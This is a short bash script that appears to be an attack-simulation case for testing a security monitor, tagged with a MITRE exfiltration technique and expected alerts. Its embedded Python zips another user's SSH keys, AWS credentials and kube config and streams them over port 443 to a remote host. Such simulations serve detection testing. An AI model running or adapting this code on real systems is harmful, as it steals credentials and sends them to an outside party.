#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1048.002 Exfiltration Over Asymmetric Encrypted Non-C2 Protocol
# behaviour: a Python script zips another user's keys and cloud credentials in memory and streams them to port 443 of an outside host
# as: root
# needs: remote
# expect: credential_access, new_destination
set -u
python3 - "$SNTL_VICTIM_HOME" "$SNTL_REMOTE" <<'PY'
import io, os, socket, sys, zipfile
home, remote = sys.argv[1], sys.argv[2]
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for rel in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".kube/config"):
        p = os.path.join(home, rel)
        if os.path.exists(p):
            z.write(p, rel)
s = socket.create_connection((remote, 443), timeout=5)
s.sendall(buf.getvalue())
s.close()
PY
